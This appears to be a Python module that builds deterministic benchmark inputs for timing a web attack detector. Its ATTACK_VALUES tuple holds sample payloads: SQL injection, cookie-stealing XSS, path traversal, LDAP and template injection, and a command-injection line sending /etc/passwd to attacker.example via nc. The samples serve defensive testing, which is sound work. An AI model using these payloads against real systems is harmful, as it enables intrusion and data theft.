"""The inputs every speed section uses: 100-byte values, a 5 KB JSON body, a 10 KB text body.

They are built deterministically, so two runs (and two machines) time the same bytes. The
100-byte values mix benign traffic that looks suspicious to a naive matcher (SQL words, quotes,
``&``) with one attack of each common class.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from urllib.parse import urlencode

VALUE_BYTES = 100
JSON_BODY_BYTES = 5 * 1024
TEXT_BODY_BYTES = 10 * 1024
FORM_BODY_BYTES = 64 * 1024

_FILLER = (
    " and then some ordinary words follow here to pad the value out to exactly one hundred bytes"
)

BENIGN_VALUES = (
    "Looking for a quiet two-bedroom apartment near Union Station with parking and a garden",
    "Maria O'Brien-Schmidt, 42 Rue de la Paix, 75002 Paris; tel +33 1 42 68 53 00",
    "Great blender: crushes ice in seconds & is easy to clean. Only downside: it's loud!",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0",
    "How do I select rows from a table where the date is last week, then delete duplicates?",
    "sort=-created_at&page=3&per_page=50&status=shipped&since=2024-05-01T00:00:00Z",
)

ATTACK_VALUES = (
    "1' UNION SELECT username, password FROM users WHERE '1'='1' -- ",
    "<img src=x onerror=alert(document.cookie)>",
    "../../../../../../etc/passwd",
    "; cat /etc/passwd | nc attacker.example 4444",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "*)(uid=*))(|(uid=*",
)


@dataclass(frozen=True)
class Workload:
    """A named set of values, all timed in the same ``detect()`` context."""

    key: str
    label: str
    context: str
    values: tuple[str, ...]


def detect_workloads(quick: bool) -> list[Workload]:
    """The three ``detect()`` workloads; ``quick`` keeps two benign and two attack values."""
    benign = BENIGN_VALUES[:2] if quick else BENIGN_VALUES
    attacks = ATTACK_VALUES[:2] if quick else ATTACK_VALUES
    values = tuple(fit(v, VALUE_BYTES) for pair in zip(benign, attacks, strict=True) for v in pair)
    return [
        Workload(
            "value_100b",
            f"100 B value (mix of {len(values)}: half attacks)",
            "query_param",
            values,
        ),
        Workload("json_5kb", f"{_kb(json_body())} JSON body", "request_body", (json_body(),)),
        Workload("text_10kb", f"{_kb(text_body())} text body", "request_body", (text_body(),)),
    ]


def fit(text: str, size: int) -> str:
    """Pad ``text`` with ordinary words (or cut it) to exactly ``size`` ASCII bytes."""
    padded = text + _FILLER * (1 + size // len(_FILLER))
    return padded[:size]


def json_body(size: int = JSON_BODY_BYTES, n: int | None = None) -> str:
    """A benign JSON API body (an order with line items and a comment) of exactly ``size`` bytes.

    With ``n``, the order id and the comment carry that number, as the next order from the
    same client would: everything else (keys, products, tags, notes) is what every order of
    the shop repeats.
    """
    order_id = "A-20240501-0042" if n is None else f"A-20240501-{n % 10**8:08d}"
    comment = "Leave it at the door." if n is None else f"Leave it at the door, order {n}."
    order: dict[str, object] = {"order_id": order_id, "currency": "EUR", "items": []}
    items: list[dict[str, object]] = []
    while len(json.dumps({**order, "items": items, "comment": ""})) < size - 400:
        n = len(items)
        items.append(
            {
                "sku": f"SKU-{1000 + n:05d}",
                "name": f"Stainless steel travel mug {n}, 350 ml",
                "quantity": 1 + n % 4,
                "unit_price": round(12.5 + n * 0.75, 2),
                "tags": ["kitchen", "travel", "gift" if n % 2 else "sale"],
                "note": "Please wrap it; it's a present for O'Neil & family.",
            }
        )
    room = size - len(json.dumps({**order, "items": items, "comment": ""}))
    return json.dumps({**order, "items": items, "comment": fit(comment, room)})


def text_body(size: int = TEXT_BODY_BYTES) -> str:
    """A benign prose body (a Markdown product review thread) of exactly ``size`` bytes."""
    paragraph = (
        "## Review by Jamie\n\nI bought this drill in March and have used it on oak, pine and "
        "drywall. The battery lasts about two hours of steady work; charging takes forty "
        "minutes. Compared with my old one it is lighter, but the chuck slips when you push "
        "hard, so select the low gear for screws. Would I buy it again? Yes - it's good value "
        "at this price & the case is sturdy.\n\n"
    )
    return (paragraph * (1 + size // len(paragraph)))[:size]


def form_body(size: int = FORM_BODY_BYTES) -> dict[str, str]:
    """A benign urlencoded form (a blog post: title, tags, slug, body) of about ``size`` bytes
    once encoded; the body is the review thread of :func:`text_body`."""
    fields = {"title": "Cordless drills compared: a year of use", "tags": "tools,reviews,diy",
              "slug": "cordless-drills-compared"}
    body = text_body(size)
    while (excess := len(urlencode({**fields, "body": body})) - size) > 0:
        body = body[: len(body) - max(1, excess // 2)]
    return {**fields, "body": body}


def _kb(text: str) -> str:
    return f"{len(text.encode()) / 1024:.1f} KB"
